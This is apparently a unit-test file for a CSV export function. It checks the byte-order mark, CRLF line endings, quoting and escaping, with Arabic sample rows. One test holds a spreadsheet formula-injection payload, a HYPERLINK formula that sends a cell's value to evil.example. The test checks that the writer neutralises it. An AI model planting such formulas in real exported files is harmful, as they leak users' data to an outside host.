import { parse as parseCsv } from 'papaparse';
import { csvText } from './csv-text';

describe('CSV text', () => {
  it('starts with a byte-order mark and ends every line with CRLF', () => {
    expect(
      csvText([
        ['اليوم', 'العدد'],
        ['الثلاثاء', 2],
      ]),
    ).toBe('\uFEFFاليوم,العدد\r\nالثلاثاء,2\r\n');
  });

  it('quotes a cell holding a comma, a quote or a line break, and leaves null empty', () => {
    expect(csvText([['a,b', 'say "hi"', 'two\nlines', null, 1.5]])).toBe(
      '\uFEFF"a,b","say ""hi""","two\nlines",,1.5\r\n',
    );
  });

  it('quotes a cell that begins or ends with a space, so a spreadsheet keeps the space', () => {
    const csv = csvText([[' حي السلم', 'بيروت ', 3]]);
    expect(csv).toBe('\uFEFF" حي السلم","بيروت ",3\r\n');
    expect(parseCsv<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data).toEqual([
      [' حي السلم', 'بيروت ', '3'],
    ]);
  });

  it('writes nothing but the byte-order mark and a line end for no rows', () => {
    expect(csvText([])).toBe('\uFEFF\r\n');
  });

  it('writes text a spreadsheet would run as data, numbers as numbers, read back by a real CSV parser', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
    const csv = csvText([
      ['الاسم', 'الهاتف', 'الرصيد'],
      [hyperlink, '+961 3 123456', -12.5],
      ['-عميل', '@x', 40],
    ]);
    const { data, errors } = parseCsv<(string | number)[]>(csv.replace(/^\uFEFF/, ''), {
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(errors).toEqual([]);
    expect(data).toEqual([
      ['الاسم', 'الهاتف', 'الرصيد'],
      [`'${hyperlink}`, "'+961 3 123456", -12.5],
      ["'-عميل", "'@x", 40],
    ]);
    for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
